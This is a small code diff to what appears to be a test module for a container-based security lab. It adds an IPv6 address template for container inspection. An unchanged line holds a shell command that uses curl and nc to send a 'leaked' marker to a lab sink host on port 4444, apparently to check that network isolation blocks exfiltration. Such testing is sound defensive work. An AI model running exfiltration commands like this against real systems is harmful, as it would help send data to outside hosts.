@@ -19,7 +19,8 @@ WITH_ATTACKS = tuple(word for bind in (*MACHINE_BINDS, f"{ATTACKS}:/attacks:ro")
 NEIGHBOUR = "10.90.0.20"
 """The address of the container that is in a :func:`user_defined_network`."""
 ADDRESS = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}"
-"""What :meth:`lab.engine.Engine.inspect` is asked for the address of a container of one network."""
+ADDRESS6 = "{{range .NetworkSettings.Networks}}{{.GlobalIPv6Address}}{{end}}"
+"""What :meth:`lab.engine.Containers.inspect` is asked for the addresses of a container of one network."""
 SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {plan.SINK4} 4444"
 """A shell's words that send to sinks, as a datagram and over TCP."""
 
